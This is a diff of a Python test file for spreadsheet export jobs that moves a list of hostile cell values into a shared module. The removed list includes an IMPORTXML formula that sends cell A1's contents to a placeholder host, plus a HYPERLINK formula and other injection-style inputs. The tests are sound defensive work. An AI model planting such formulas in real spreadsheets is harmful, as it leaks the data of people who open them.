@@ -2,27 +2,11 @@
 
 import pytest
 
+from tests.hostile import HOSTILE
 from tests.jobs.google.conftest import Make
 from tests.jobs.google.harbour import Harbour
 from tests.tables import edited
 
-HOSTILE = [
-    '=IMPORTXML("https://example.org/?"&A1,"//a")',
-    "=1+1",
-    "+1",
-    "-2",
-    "@x",
-    "00420",
-    "2026-01-02",
-    "1/2",
-    "TRUE",
-    "'quoted",
-    "12 %",
-    "1e5",
-    "1,5",
-    "#REF!",
-    "=HYPERLINK(\"https://example.org\",\"click\")",
-]  # fmt: skip
 KINDS = {"ana": "google", "ben": "xlsx", "cho": "google", "dee": "xlsx"}
 
 
